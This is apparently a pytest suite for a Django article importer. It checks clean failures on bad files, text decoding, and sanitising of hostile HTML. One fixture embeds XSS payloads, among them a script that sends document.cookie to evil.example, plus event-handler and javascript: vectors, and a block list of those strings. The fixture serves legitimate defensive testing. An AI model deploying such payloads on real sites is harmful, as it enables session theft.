"""Bad input: a readable one-line error or warning, never a traceback, and nothing written."""

import io
import time
import zipfile

import pytest

from articles.importing import import_bytes, import_paths, parse_document
from articles.models import ImportRecord
from tests.importing.helpers import fixture_bytes, row_counts

pytestmark = pytest.mark.django_db

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256))


def zip_bytes():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("article.txt", "Some text")
    return buffer.getvalue()


def assert_fails_cleanly(data, *, filename="bad.txt", expected=""):
    before = row_counts()
    outcome = import_bytes(data, filename=filename)
    assert outcome.result == "failed"
    assert outcome.error and "\n" not in outcome.error
    assert "Traceback" not in outcome.error
    if expected:
        assert expected in outcome.error.lower()
    assert row_counts() == before
    return outcome


def test_empty_file_fails_with_a_readable_error():
    assert_fails_cleanly(b"", expected="empty")


def test_whitespace_only_file_fails_as_empty():
    assert_fails_cleanly(b"  \n\n \t\n", expected="empty")


def test_png_fails_as_an_image():
    assert_fails_cleanly(PNG, filename="photo.txt", expected="png")


def test_zip_fails_as_an_archive():
    assert_fails_cleanly(zip_bytes(), filename="article.txt", expected="zip")


def test_nul_bytes_fail_as_binary():
    assert_fails_cleanly(b"Title\n\nSome text\x00\x00 more text", expected="nul")


def test_file_over_the_size_limit_fails(settings):
    settings.KETASITE_IMPORT_MAX_BYTES = 1000
    outcome = assert_fails_cleanly(b"Title\n\n" + b"word " * 400, expected="limit")
    assert "KB" in outcome.error or "bytes" in outcome.error


def test_failed_file_is_recorded_without_article_rows():
    outcome = assert_fails_cleanly(PNG, filename="photo.txt")
    record = ImportRecord.objects.get()
    assert record == outcome.record
    assert record.result == "failed"
    assert record.article is None
    assert "PNG" in record.report["error"]


def test_dry_run_failure_records_nothing():
    outcome = import_bytes(b"", filename="empty.txt", dry_run=True)
    assert outcome.result == "failed"
    assert ImportRecord.objects.count() == 0


def test_windows_1252_text_is_decoded():
    text = "Caf\u00e9 ketamine\n\nThe clinic\u2019s \u201cnew\u201d protocol is described here."
    data = text.encode("cp1252")
    parsed = parse_document(data, filename="win.txt")
    assert parsed.encoding == "windows-1252"
    assert parsed.title == "Caf\u00e9 ketamine"
    assert "clinic\u2019s \u201cnew\u201d" in parsed.blocks[0]["text"]


def test_latin_1_text_is_decoded():
    # 0x81 is undefined in Windows-1252, so only Latin-1 reads these bytes.
    text = ("Na\u00efve patients\n\nKetamine was given to na\u00efve patients in the "
            "trial, with \u00bd the usual dose, and followed for a year.")
    data = text.encode("latin-1") + b" \x81"
    parsed = parse_document(data, filename="latin.txt")
    assert parsed.encoding == "iso-8859-1"
    assert parsed.title == "Na\u00efve patients"


def test_utf8_with_bom_is_decoded_without_the_bom():
    parsed = parse_document("\ufeffTitle here\n\nBody text.".encode(), filename="bom.txt")
    assert parsed.title == "Title here"


def test_undecodable_bytes_fail_with_a_readable_error():
    assert_fails_cleanly(b"\x81\x8d\x8f\x90\x9d" * 200, expected="not readable text")


HOSTILE_HTML = b"""<!doctype html><html><head><title>Ketamine facts</title>
<script>document.location='https://evil.example/'+document.cookie</script>
<style>body{display:none}</style></head><body>
<article><h1>Ketamine facts</h1>
<p onclick="alert(1)">Ketamine is an anaesthetic that is also studied for depression in adults
who did not respond to other treatments. <a href="javascript:alert(1)">Read this</a>.</p>
<img src="x" onerror="alert(2)">
<p>It is given in clinics under supervision; <a href="data:text/html;base64,PHNjcmlwdD4=">see
here</a> for the dosing that clinics use in practice today.</p>
<iframe src="https://evil.example/frame"></iframe>
<svg onload="alert(3)"><script>alert(4)</script></svg>
</article></body></html>"""


def test_hostile_html_keeps_only_text():
    outcome = import_bytes(HOSTILE_HTML, filename="page.html")
    assert outcome.result == "created"
    stored = str(outcome.revision.blocks).lower()
    for forbidden in ("<script", "javascript:", "data:", "onerror", "onclick", "onload",
                      "<iframe", "evil.example", "alert("):
        assert forbidden not in stored
    assert "anaesthetic" in stored
    assert any("active content" in item["reason"] for item in outcome.dropped)


def test_single_two_megabyte_line_finishes_quickly():
    data = b"A long line " + (b"ketamine was studied in adults. " * 65_000)
    assert len(data) > 2_000_000
    started = time.monotonic()
    outcome = import_bytes(data, filename="long.txt")
    assert time.monotonic() - started < 10
    assert outcome.result == "created"
    assert any("split" in warning for warning in outcome.warnings)


def test_missing_path_fails_with_one_line():
    before = row_counts()
    [outcome] = import_paths(["/nonexistent/article.txt"])
    assert outcome.result == "failed"
    assert "no such file" in outcome.error
    assert row_counts() == before


def test_directory_mixing_good_and_bad_files_imports_the_good(tmp_path):
    (tmp_path / "a_good.txt").write_bytes(fixture_bytes("related-links.txt"))
    (tmp_path / "b_empty.txt").write_bytes(b"")
    (tmp_path / "c_image.html").write_bytes(PNG)
    (tmp_path / "d_good.md").write_bytes(b"# A markdown article\n\nKetamine text for the body.")
    (tmp_path / "notes.pdf").write_bytes(b"%PDF-1.4")
    outcomes = import_paths([tmp_path])
    results = {o.filename: o.result for o in outcomes}
    assert results == {"a_good.txt": "created", "b_empty.txt": "failed",
                       "c_image.html": "failed", "d_good.md": "created"}
    assert row_counts()["articles"] == 2


def test_source_url_with_several_files_is_refused(tmp_path):
    (tmp_path / "a.txt").write_bytes(b"Title A\n\nText of the first article here.")
    (tmp_path / "b.txt").write_bytes(b"Title B\n\nText of the second article here.")
    outcomes = import_paths([tmp_path], source_url="https://example.org/page")
    assert all(o.result == "failed" for o in outcomes)
    assert row_counts()["articles"] == 0


def test_invalid_source_url_fails_cleanly():
    outcome = import_bytes(b"Title\n\nBody text.", filename="a.txt",
                           source_url="javascript:alert(1)")
    assert outcome.result == "failed"
    assert "not an http(s) address" in outcome.error
